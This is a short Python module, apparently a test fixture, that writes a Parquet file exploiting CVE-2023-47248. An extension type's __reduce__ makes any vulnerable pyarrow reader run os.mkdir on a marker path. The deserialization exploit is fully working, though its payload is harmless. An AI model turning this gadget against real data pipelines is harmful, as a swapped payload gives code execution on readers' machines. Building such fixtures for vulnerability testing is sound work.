"""A Parquet file whose schema runs a command of its author's where it is read carelessly (CVE-2023-47248)."""

from __future__ import annotations

import os
from collections.abc import Mapping, Sequence
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq


class _Payload(pa.PyExtensionType):
    def __init__(self, marker: Path) -> None:
        self.marker = marker
        super().__init__(pa.string())

    def __reduce__(self):
        return os.mkdir, (str(self.marker),)


def write_crafted(path: Path, marker: Path, columns: Mapping[str, Sequence[str]]) -> None:
    """Whoever unpickles the type of the first column makes the folder `marker`."""
    (first, values), *others = columns.items()
    crafted = pa.ExtensionArray.from_storage(_Payload(marker), pa.array(values, pa.string()))
    pq.write_table(pa.table({first: crafted, **dict(others)}), path)
